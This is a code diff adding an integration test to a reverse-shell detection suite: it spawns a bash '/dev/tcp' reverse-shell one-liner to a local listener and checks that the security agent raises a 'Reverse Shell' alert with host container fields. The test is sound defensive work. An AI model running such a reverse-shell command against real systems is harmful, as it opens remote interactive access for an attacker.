@@ -1,4 +1,4 @@
-import { execFileSync } from 'node:child_process';
+import { execFileSync, spawn } from 'node:child_process';
 import { createServer } from 'node:http';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { integrationUnavailable } from './docker-env.js';
@@ -92,6 +92,23 @@ describe.skipIf(unavailable)('reverse shells in pods', () => {
       await expectQuiet(pod, 5_000);
     } finally {
       server.close();
+    }
+  });
+
+  it('bash /dev/tcp on the host itself: alerts with container.id host', async () => {
+    const listener = await listen('127.0.0.1');
+    listeners.push(listener);
+    const shell = spawn('bash', ['-c', `exec bash -i >& /dev/tcp/127.0.0.1/${listener.port} 0>&1`], { stdio: 'ignore' });
+    try {
+      const connection = await listener.waitForConnection(15_000);
+      const alert = await agent.waitForAlert(
+        (a) => a.rule === 'Reverse Shell' && a.output_fields['fd.rport'] === listener.port,
+        10_000,
+      );
+      console.log(`[reverse-shell] host bash /dev/tcp: alert ${alert.receivedMs - connection.atMs} ms after the connection`);
+      expect(alert.output_fields).toMatchObject({ 'container.id': 'host', 'proc.name': 'bash', 'proc.pid': shell.pid });
+    } finally {
+      shell.kill('SIGKILL');
     }
   });
 
